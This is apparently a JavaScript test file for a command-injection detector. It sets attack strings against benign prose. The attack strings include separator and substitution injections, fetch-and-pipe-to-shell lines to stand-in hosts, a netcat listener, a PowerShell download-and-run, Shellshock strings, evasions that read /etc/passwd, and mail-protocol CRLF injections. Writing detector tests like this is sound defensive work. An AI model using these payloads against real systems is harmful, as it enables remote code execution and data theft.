// OS command injection detector: commands after separators and inside
// substitutions, with the evasions shells undo, against prose and data.
import { detectCommand, detectMailCommand, normalizeShell } from '../../../src/detection/detectors/rce.js';
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { testDetector } from './cases.js';

testDetector('rce', detectCommand, {
  attacks: [
    'x; uname -a',
    'host.test | nc 198.51.100.3 4444',
    'a && curl -s http://x.test/i | sh',
    '$(id)',
    '`whoami`',
    'w\'h\'o\'am\'i',
    'cat${IFS}/etc/hosts',
    '/b?n/ca? /etc/host?',
    '/etc/pa[s]swd',
    '() { :; }; /bin/true',
    ' "() { ignored; }; /usr/bin/id"',
    'powershell -enc SQBFAFgA',
    'iex (New-Object Net.WebClient).DownloadString("http://x.test")',
    'wget http://x.test/a -O /tmp/a',
    '{cat,/etc/hosts}',
    'echo $((1+1))',
    'ping -c 3 198.51.100.5',
  ],
  benign: [
    'Meet me at 5; we will talk then',
    'Salt & pepper',
    'price: $20',
    'hello world',
    'The cat sat on the mat.',
    'Q&A session | room 4',
    'time flies',
    'read more',
    'function add(a){ return a + 1 }',
  ],
});

testDetector('rce mail command', detectMailCommand, {
  attacks: ['x\r\nA1 LOGIN user pass', 'note\nRCPT TO:<a@x.test>'],
  benign: ['line one\nline two', 'plain text'],
});

test('normalizeShell removes quotes inside words', () => {
  assert.equal(normalizeShell("c'a't /x"), 'cat /x');
});

test('normalizeShell turns $IFS into a space', () => {
  assert.equal(normalizeShell('cat$IFS/x'), 'cat /x');
});

// A command line passes options, paths, hosts and subcommands; a search
// for how to use a command goes on in English.
testDetector('rce leading command in prose', detectCommand, {
  attacks: ['nc -lvnp 9001', 'wget http://x.test/s.sh', 'rsync -a /srv host.test:/x', 'chmod +x /tmp/run', 'terraform state pull'],
  benign: ['grep -r only shows the first match', 'wget keeps timing out on large files', 'docker ps shows nothing after reboot', 'kill -9 does not stop the process'],
});

// Markdown code spans quote a command for a reader when prose surrounds them.
testDetector('rce markdown code spans', detectCommand, {
  attacks: ['`id`', 'name=`whoami`', 'x`uname -a`y', 'see $(id) here in the text'],
  benign: ['Run `git pull` and then restart the app', 'type `ls -la` to see hidden files in the folder', 'set `${HOME}` in your profile before running it'],
});

testDetector('rce parameter expansion', detectCommand, {
  attacks: ['${IFS}cat${IFS}/etc/group', '$(sleep 5)', 'a;${SHELL} -c id'],
  benign: ['root: ${DATA_DIR}/files', 'Dear ${first_name},'],
});

test('path glob needs one word', () => {
  assert.equal(detectCommand('see /docs then ask? yes'), null);
});
